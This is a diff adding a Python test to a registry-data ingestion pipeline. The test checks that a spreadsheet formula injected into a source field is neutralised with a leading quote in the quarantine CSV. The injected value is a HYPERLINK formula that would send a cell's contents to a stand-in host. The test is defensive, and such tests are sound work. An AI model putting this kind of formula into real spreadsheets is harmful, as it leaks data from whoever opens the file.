@@ -677,3 +677,16 @@ def test_the_mappings_sheet_is_read_and_the_option_overrides_it(tmp_path):
 
     assert by_mapping.manifest["source"]["sheet"] == "杨浦" and by_mapping.manifest["counts"]["enterprises"] == 8
     assert by_option.manifest["source"]["sheet"] == "全市" and by_option.manifest["counts"]["enterprises"] == 3
+
+
+def test_a_formula_in_source_data_stays_text_in_the_quarantine_file(tmp_path):
+    export = realistic_export()
+    export.loc[2, "登记状态"] = '=HYPERLINK("http://x.example/?q="&A2,"click")'
+    path = tmp_path / "export.csv"
+    export.to_csv(path, index=False)
+
+    info = ingest(path, load_mapping(CN_REGISTRY), tmp_path / "snapshots", 0.5)
+
+    quarantine = pd.read_csv(info.path / "quarantine.csv", dtype=str).set_index("row")
+    # Staff open the quarantine in Excel: the value is kept, as text (OWASP: a leading quote).
+    assert quarantine.loc["3", "value"] == "'" + export.loc[2, "登记状态"]
